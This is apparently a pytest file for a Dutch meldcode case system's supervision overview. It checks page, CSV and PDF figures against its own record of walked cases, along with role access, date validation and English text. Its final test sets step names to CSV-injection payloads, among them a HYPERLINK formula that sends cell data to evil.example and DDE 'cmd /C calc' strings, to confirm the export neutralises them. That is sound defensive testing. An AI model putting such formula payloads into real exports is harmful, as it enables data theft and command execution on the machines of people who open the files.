"""The management overview for toezicht (issue 14 point 6): /toezicht and its CSV and PDF.

Cases are walked along several routes on a controlled clock, a practice case among them; the
test keeps its own record of each case (when it started and closed, each task's ready and
completion time, the feedback given) and counts every figure from that record itself, then
checks the page, the CSV and the PDF (pdftotext) against those counts. The period's edges are
Dutch calendar days: a case opened at 23:30 Dutch time on the last day counts, one opened at
00:30 the day after does not. No client reference appears anywhere in the three."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
import shutil
import subprocess
from collections import Counter, defaultdict
from dataclasses import dataclass, field
from zoneinfo import ZoneInfo

import pytest
from sqlalchemy import update

from engine import audit, cases, clock, models, store, tasks
from tests.helpers import LANE_PEOPLE, Client, dutch_in, text
from tests.scenarios.paths import SCENARIOS, TEAM_STEPS, fill

AMS = ZoneInfo("Europe/Amsterdam")
FIRST, LAST = dt.date(2026, 3, 1), dt.date(2026, 3, 31)
NOW = dt.datetime(2026, 4, 20, 10, 0, tzinfo=dt.UTC)  # when the overview is asked for
UITKOMSTEN = ("gemeld", "hulp", "gemeld_en_hulp", "zorgen_weggenomen", "geen_vermoeden")
BY_NAME = {s.name: s for s in SCENARIOS}


@dataclass
class Walked:
    """What the test saw of one case while walking it."""

    ref: str
    started: dt.datetime
    practice: bool = False
    status: str = "open"
    uitkomst: str | None = None
    closed: dt.datetime | None = None
    # task id -> {"step", "ready", "completed", "due", "data"}
    tasks: dict[str, dict] = field(default_factory=dict)


def see(walked: Walked, case: dict, at: dt.datetime) -> None:
    for t in case["tasks"]:
        walked.tasks.setdefault(t["id"], {
            "step": t["step"], "ready": at, "completed": None, "data": None,
            "due": dt.datetime.fromisoformat(t["due_at"].replace("Z", "+00:00"))
            if t["due_at"] else None})


def walk_case(people, ref: str, start: dt.datetime, decisions: dict, hours: list[float],
              stop_at: str | None = None, practice: bool = False) -> Walked:
    """Start a case at `start` and complete its tasks (the team's steps first, as
    helpers.walk does), the n-th completion hours[n % len(hours)] after the one before."""
    walked = Walked(ref, start, practice)
    with clock.use(start):
        case = cases.start_case(people["mw"], {"client_ref": ref, "reason": "zorgen " + ref})
    if practice:
        with store.unit_of_work(write=True) as session:
            session.execute(update(models.Case).where(models.Case.id == case["id"])
                            .values(practice=True))
            # sealed again, as the product seals a header it changes: a broken seal takes no
            # write (engine/write_refusals.py), and this stands for a practice case as started
            audit.seal_case(session, case["id"])
    see(walked, case, start)
    at, n = start, 0
    while case["tasks"]:
        task = next((t for t in case["tasks"] if t["step"] in TEAM_STEPS), case["tasks"][0])
        if task["step"] == stop_at:
            break
        at += dt.timedelta(hours=hours[n % len(hours)])
        n += 1
        # a practice case: its owner walks every lane alone (engine/users.may_complete)
        who = people["mw"] if practice else people[LANE_PEOPLE[task["lane"]]]
        with clock.use(at):
            form = tasks.get_task(who, task["id"])["form"]["fields"]
            data = fill(form, decisions)
            case = tasks.complete_task(who, task["id"], data)
        walked.tasks[task["id"]].update(completed=at, data=data)
        see(walked, case, at)
    walked.status, walked.uitkomst = case["status"], case["uitkomst"]
    walked.closed = at if case["status"] == "closed" else None
    return walked


def in_period(at: dt.datetime | None) -> bool:
    return at is not None and FIRST <= at.astimezone(AMS).date() <= LAST


def hours(seconds: int) -> float:
    """In hours to one decimal, a half tenth rounded up (0.25 hours: 0.3)."""
    return (seconds + 180) // 360 / 10


def nearest_rank(values: list[int], p: int) -> int:
    ordered = sorted(values)
    return ordered[-(-len(ordered) * p // 100) - 1]


def expected(walked: list[Walked]) -> dict:
    """Every figure, counted from the test's own record of the cases."""
    real = [w for w in walked if not w.practice]
    opened = [w for w in real if in_period(w.started)]
    closed = [w for w in real if in_period(w.closed)]
    every = [t for w in real for t in w.tasks.values()]
    durations: dict[str, list[int]] = defaultdict(list)  # whole seconds
    for t in every:
        if in_period(t["completed"]):
            durations[t["step"]].append(int((t["completed"] - t["ready"]).total_seconds()))
    feedback = Counter()
    for t in every:
        if t["step"] == "terugkoppeling_vt" and in_period(t["ready"]):
            if t["completed"]:
                feedback["received" if t["data"]["terugkoppeling_ontvangen"]
                         else "not_received"] += 1
            else:
                feedback["overdue" if t["due"] and t["due"] < NOW else "open"] += 1
    meldingen = [(w, t) for w in real for t in w.tasks.values()
                 if t["step"] == "melding_doen" and in_period(t["completed"])]
    reached, done = defaultdict(set), defaultdict(set)
    for w in opened:
        for t in w.tasks.values():
            reached[t["step"]].add(w.ref)
            if t["completed"]:
                done[t["step"]].add(w.ref)
    overdue = Counter(t["step"] for t in every
                      if not t["completed"] and t["due"] and t["due"] < NOW)
    return {
        "opened": len(opened),
        "opened_open": sum(w.status == "open" for w in opened),
        "opened_by": Counter(w.uitkomst for w in opened if w.uitkomst),
        "closed": len(closed),
        "closed_by": Counter(w.uitkomst for w in closed),
        "open_now": sum(w.status == "open" for w in real),
        "steps": {s: (len(v), hours(nearest_rank(v, 50)), hours(nearest_rank(v, 90)))
                  for s, v in durations.items()},
        "overdue": overdue,
        "made": len(meldingen),
        "melding_cases": len({w.ref for w, _t in meldingen}),
        "feedback": feedback,
        "routes": {s: (len(reached[s]), len(done[s])) for s in reached},
    }


@pytest.fixture
def walked(people):
    """Cases along several routes, in March 2026 (CET until the 29th, CEST after) and
    around it; one of them a practice case."""
    s = BY_NAME
    no_feedback = {"terugkoppeling_ontvangen": False}
    return [
        # opened 00:30 Dutch time on the first day (23:30 UTC the day before): in
        walk_case(people, "R-weggenomen", dt.datetime(2026, 2, 28, 23, 30, tzinfo=dt.UTC),
                  s["zorgen_weggenomen"].decisions, [2, 5, 1]),
        walk_case(people, "R-geen-vermoeden", dt.datetime(2026, 3, 3, 8, 0, tzinfo=dt.UTC),
                  s["gesprek_geen_vermoeden"].decisions, [26, 3]),
        walk_case(people, "R-gemeld", dt.datetime(2026, 3, 9, 8, 0, tzinfo=dt.UTC),
                  s["geen_hulp_mogelijk_melden"].decisions, [4, 30, 2]),
        walk_case(people, "R-gemeld-geen-vt", dt.datetime(2026, 3, 10, 8, 0, tzinfo=dt.UTC),
                  {**s["hulp_niet_aanvaard_melden_zonder_voorbespreken"].decisions,
                   **no_feedback}, [7, 1]),
        # the melding made, the feedback still to come (overdue by NOW)
        walk_case(people, "R-wacht-op-vt", dt.datetime(2026, 3, 16, 8, 0, tzinfo=dt.UTC),
                  s["geen_hulp_mogelijk_melden"].decisions, [3], stop_at="terugkoppeling_vt"),
        # still at stap 2 (overdue by NOW)
        walk_case(people, "R-open", dt.datetime(2026, 3, 20, 8, 0, tzinfo=dt.UTC),
                  s["zorgen_weggenomen"].decisions, [1], stop_at="stap2_overleg"),
        # 23:30 Dutch summer time on the last day (21:30 UTC): in
        walk_case(people, "R-laatste-avond", dt.datetime(2026, 3, 31, 21, 30, tzinfo=dt.UTC),
                  s["zorgen_weggenomen"].decisions, [0.25]),
        # 00:30 Dutch time on 1 April (22:30 UTC on the 31st): out, and closed in April
        walk_case(people, "R-na-de-periode", dt.datetime(2026, 3, 31, 22, 30, tzinfo=dt.UTC),
                  s["gesprek_geen_vermoeden"].decisions, [1]),
        # opened in February, closed in March: counts as closed, not as opened
        walk_case(people, "R-februari", dt.datetime(2026, 2, 20, 8, 0, tzinfo=dt.UTC),
                  s["zorgen_weggenomen"].decisions, [200]),
        # practice: never in any figure
        walk_case(people, "R-oefening", dt.datetime(2026, 3, 11, 8, 0, tzinfo=dt.UTC),
                  s["geen_hulp_mogelijk_melden"].decisions, [1], practice=True),
    ]


def signed_in(app, name: str) -> Client:
    c = Client(app)
    c.login(name)
    return c


QUERY = f"?van={FIRST.isoformat()}&tot={LAST.isoformat()}"


def section(body: str, name: str) -> str:
    """The page's <section id=name> and nothing else."""
    start = body.index(f'id="{name}"')
    return body[start:body.index("</section>", start)]


def cells(body: str, row_attr: str, key: str) -> dict[str, str]:
    """The figure cells of the page's row with row_attr="key": {data-figure: text}."""
    row = re.search(rf'<tr {row_attr}="{re.escape(key)}">(.*?)</tr>', body, re.S)
    assert row, f"no row {row_attr}={key}"
    return dict(re.findall(r'data-figure="(\w+)">([^<]*)<', row.group(1)))


def test_every_count_on_the_page_csv_and_pdf_matches_the_cases_behind_them(app, people,
                                                                             walked):
    want = expected(walked)
    # the record covers what the cases say through the API
    for w in walked:
        assert w.status in ("open", "closed")
    assert want["opened"] == 7 and want["closed"] >= 1 and want["made"] == 3
    lg = signed_in(app, "lg")
    with clock.use(NOW):
        page = lg.get("/toezicht" + QUERY)
        csv_response = lg.http.get("/toezicht.csv" + QUERY)
        pdf_response = lg.http.get("/toezicht.pdf" + QUERY)
    body = text(page)
    assert page.status_code == 200, body

    # --- the page
    for code in UITKOMSTEN:
        row = cells(body, "data-uitkomst", code)
        assert row == {"opened": str(want["opened_by"][code]),
                       "closed": str(want["closed_by"][code])}, code
    assert cells(body, "data-uitkomst", "open") == {"opened": str(want["opened_open"])}
    assert cells(body, "data-uitkomst", "totaal") == {"opened": str(want["opened"]),
                                                      "closed": str(want["closed"])}
    assert re.search(rf'id="nu-open">{want["open_now"]}<', body)
    durations = section(body, "doorlooptijd")
    assert set(re.findall(r'data-step="(\w+)"', durations)) == set(want["steps"])
    for step, (n, median, p90) in want["steps"].items():
        assert cells(durations, "data-step", step) == {
            "completed": str(n), "median": f"{median:.1f}".replace(".", ","),
            "p90": f"{p90:.1f}".replace(".", ",")}, step
    overdue = section(body, "termijnen")
    assert re.search(rf'id="te-laat-totaal">{sum(want["overdue"].values())}<', overdue)
    assert {step: int(n) for step, n in re.findall(
        r'<tr data-step="(\w+)"><th scope="row">[^<]*</th><td class="num">(\d+)<', overdue)} \
        == dict(want["overdue"])
    routes = section(body, "routes")
    assert set(re.findall(r'<tr data-step="(\w+)"', routes)) == set(want["routes"])
    for step, (reached, done) in want["routes"].items():
        assert cells(routes, "data-step", step) == {"reached": str(reached),
                                                    "completed": str(done)}, step
    # the heatmap's figures for the diagram: the same counts
    heatmap = json.loads(re.search(r'id="heatmap-json">(.*?)</script>', body, re.S).group(1))
    assert heatmap["counts"] == {s: r for s, (r, _d) in want["routes"].items()}
    meldingen = section(body, "meldingen")
    for key, n in (("gedaan", want["made"]), ("casussen", want["melding_cases"]),
                   *((s, want["feedback"][s]) for s in
                     ("received", "not_received", "open", "overdue"))):
        assert re.search(rf'<tr data-key="{key}"><th scope="row">[^<]*</th>'
                         rf'<td class="num">{n}</td>', meldingen), key

    # --- the CSV: one row per figure
    assert csv_response.status_code == 200
    assert csv_response.mimetype == "text/csv"
    raw = csv_response.get_data().decode("utf-8")
    assert raw.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(raw.lstrip("\ufeff")), delimiter=";"))
    assert rows[0] == ["onderdeel", "sleutel", "maat", "waarde", "omschrijving"]
    got = {(r[0], r[1], r[2]): r[3] for r in rows[1:]}
    assert len(got) == len(rows) - 1  # no figure twice
    assert got[("periode", "van", "datum")] == "2026-03-01"
    assert got[("casussen_geopend", "totaal", "aantal")] == str(want["opened"])
    assert got[("casussen_geopend", "open", "aantal")] == str(want["opened_open"])
    assert got[("casussen_afgesloten", "totaal", "aantal")] == str(want["closed"])
    assert got[("casussen_open", "nu", "aantal")] == str(want["open_now"])
    for code in UITKOMSTEN:
        assert got[("casussen_geopend", code, "aantal")] == str(want["opened_by"][code])
        assert got[("casussen_afgesloten", code, "aantal")] == str(want["closed_by"][code])
    steps_in_csv = {k[1] for k in got if k[0] == "stap_duur"}
    assert steps_in_csv == set(want["steps"])
    for step, (n, median, p90) in want["steps"].items():
        assert got[("stap_duur", step, "afgerond")] == str(n)
        assert float(got[("stap_duur", step, "mediaan_uren")]) == median, step
        assert float(got[("stap_duur", step, "p90_uren")]) == p90, step
    assert got[("te_laat", "totaal", "aantal")] == str(sum(want["overdue"].values()))
    assert {k[1]: int(v) for k, v in got.items() if k[0] == "te_laat" and k[1] != "totaal"} \
        == dict(want["overdue"])
    assert got[("meldingen", "gedaan", "aantal")] == str(want["made"])
    assert got[("meldingen", "casussen", "aantal")] == str(want["melding_cases"])
    for state in ("received", "not_received", "open", "overdue"):
        assert got[("terugkoppeling", state, "aantal")] == str(want["feedback"][state]), state
    assert {k[1] for k in got if k[0] == "route"} == set(want["routes"])
    for step, (reached, done) in want["routes"].items():
        assert got[("route", step, "bereikt")] == str(reached), step
        assert got[("route", step, "afgerond")] == str(done), step

    # --- the PDF, read back
    assert pdf_response.status_code == 200 and pdf_response.data.startswith(b"%PDF")
    pdf = pdf_text(pdf_response.data)
    lines = [re.sub(r"\s+", " ", line).strip() for line in pdf.splitlines()]
    assert "Overzicht voor toezicht" in pdf and "2026-03-01 tot en met 2026-03-31" in pdf
    assert f"Totaal {want['opened']} {want['closed']}" in lines
    assert f"Nog open {want['opened_open']} –" in lines
    assert f"Meldingen gedaan in de periode {want['made']}" in lines
    assert f"Nu, over alle casussen: {sum(want['overdue'].values())}" in lines
    assert f"Nog open, termijn verstreken {want['feedback']['overdue']}" in lines
    for step, (n, median, p90) in want["steps"].items():
        figures = f"{n} {median:.1f} {p90:.1f}".replace(".", ",")
        assert any(line.endswith(" " + figures) for line in lines), (step, figures)

    # --- never a client reference, a reason or an owner's name
    for w in walked:
        for content in (body, raw, pdf):
            assert w.ref not in content


def pdf_text(data: bytes) -> str:
    if not shutil.which("pdftotext"):
        pytest.skip("pdftotext (poppler-utils) is not installed")
    return subprocess.run(["pdftotext", "-layout", "-", "-"], input=data, capture_output=True,
                          check=True).stdout.decode()


def test_who_may_see_it(ui_app, sqlite_people):
    for name in ("lg", "aud"):
        c = signed_in(ui_app, name)
        home = text(c.get("/meldcode"))
        assert 'href="/toezicht"' in home, name
        assert c.get("/toezicht").status_code == 200, name
        assert c.get("/toezicht.csv").status_code == 200, name
    for name in ("mw", "af", "pb", "bh"):
        c = signed_in(ui_app, name)
        assert 'href="/toezicht"' not in text(c.get("/meldcode")), name
        for path in ("/toezicht", "/toezicht.csv", "/toezicht.pdf",
                     "/toezicht?van=nonsens"):  # the role before the dates
            assert c.get(path).status_code == 403, (name, path)
    assert Client(ui_app).get("/toezicht").status_code == 302  # not signed in


@pytest.mark.parametrize("query, field, message", [
    ("van=2026-13-01", "van", "Vul een datum in als JJJJ-MM-DD."),
    ("van=1-2-2026", "van", "Vul een datum in als JJJJ-MM-DD."),
    ("van=2026-W10-1", "van", "Vul een datum in als JJJJ-MM-DD."),  # an ISO week date
    ("tot=20260301", "tot", "Vul een datum in als JJJJ-MM-DD."),
    ("tot=0001-01-01", "tot", "Vul een datum in tussen 01-01-1900 en 31-12-9998."),
    ("van=2026-03-10&tot=2026-03-09", "tot", "De einddatum ligt vóór de begindatum."),
])
def test_a_period_that_does_not_hold_is_refused_in_dutch(ui_app, sqlite_people, query, field,
                                                          message):
    c = signed_in(ui_app, "aud")
    page = c.get("/toezicht?" + query)
    body = text(page)
    assert page.status_code == 422
    assert f'id="{field}-fout"' in body and message in body
    assert 'id="cijfers-casussen"' not in body  # no figures for a period that does not hold
    assert c.get("/toezicht.csv?" + query).status_code == 422
    assert c.get("/toezicht.pdf?" + query).status_code == 422


def test_the_default_period_is_this_year_and_english_reads_english(ui_app, sqlite_people):
    at = dt.datetime(2026, 6, 15, 22, 30, tzinfo=dt.UTC)  # the 16th, Dutch time
    walk_case(sqlite_people, "E-1", at - dt.timedelta(days=10),
              BY_NAME["geen_hulp_mogelijk_melden"].decisions, [30], stop_at="terugkoppeling_vt")
    c = signed_in(ui_app, "lg")
    with clock.use(at):
        body = text(c.get("/toezicht"))
        c.post("/taal", {"taal": "en", "next": "/toezicht"})
        english = text(c.get("/toezicht"))
        pdf = pdf_text(c.http.get("/toezicht.pdf").data)
        rows = list(csv.reader(io.StringIO(
            c.http.get("/toezicht.csv").get_data().decode("utf-8-sig")), delimiter=";"))
    assert 'value="2026-01-01"' in body and 'value="2026-06-16"' in body
    assert "Overview for supervision" in english and "Overzicht voor toezicht" not in english
    assert 'data-step="melding_doen"' in english  # figures of steps are on it
    assert dutch_in(english) == []
    # (the PDF's step names are the diagram's, wrapped in the table: headings checked instead)
    for heading in ("Overview for supervision", "Time taken per step", "Tasks past their term",
                    "Reports to Veilig Thuis and their feedback", "Routes through the meldcode"):
        assert heading in pdf
    for dutch in ("Doorlooptijd", "Casussen", "Meldingen", "Routes door", "Gemaakt op"):
        assert dutch not in pdf
    assert rows[0] == ["onderdeel", "sleutel", "maat", "waarde", "omschrijving"]  # codes stay
    assert dutch_in(" | ".join(r[4] for r in rows[1:])) == []


def test_a_step_name_that_reads_as_a_formula_stays_text_in_the_csv(ui_app, sqlite_people,
                                                                     monkeypatch):
    """The CSV's descriptions start with a step's name as the procesbeheerder wrote it in the
    diagram: a name starting with = + - or @ would be a formula in a spreadsheet (CSV
    injection). Such a cell gets a leading apostrophe; the codes and numbers stay as they are,
    and the page shows the name as written."""
    from lxml import etree
    from markupsafe import escape

    from engine import definitions
    from tests.helpers import store_version

    files = definitions.shipped_files()
    bpmn = next(f for f in files if f.kind == "bpmn")
    root = etree.fromstring(bpmn.content)
    names = {"stap1_signalen": '=HYPERLINK("https://evil.example/?"&A1;"klik")',
             "stap2_overleg": "+1+cmd|' /C calc'!A0", "stap3_gesprek": "@SUM(1+1)*cmd|' /C calc'!A0",
             "stap4_wegen": "-2+3"}
    for step, name in names.items():
        root.xpath(f"//*[@id='{step}']")[0].set("name", name)
    content = etree.tostring(root, xml_declaration=True, encoding="UTF-8")
    store_version([type(bpmn)(bpmn.name, content) if f is bpmn else f for f in files],
                  monkeypatch)
    walk_case(sqlite_people, "F-1", clock.now() - dt.timedelta(days=2),
              BY_NAME["geen_hulp_mogelijk_melden"].decisions, [1, 1, 1, 1, 1],
              stop_at="stap5_beslissen")
    c = signed_in(ui_app, "aud")
    rows = list(csv.reader(io.StringIO(
        c.http.get("/toezicht.csv").get_data().decode("utf-8-sig")), delimiter=";"))
    described = {(r[0], r[1], r[2]): r[4] for r in rows[1:]}
    for step, name in names.items():
        assert described[("route", step, "bereikt")] == \
            f"'{name}: casussen die deze stap bereikten", step
        assert described[("stap_duur", step, "afgerond")].startswith(f"'{name}:"), step
    formula = [r for r in rows if any(v.startswith(("=", "+", "-", "@")) for v in r)]
    assert formula == []
    assert [r[3] for r in rows if r[:3] == ["route", "stap1_signalen", "bereikt"]] == ["1"]
    assert str(escape(names["stap1_signalen"])) in text(c.get("/toezicht"))  # as written
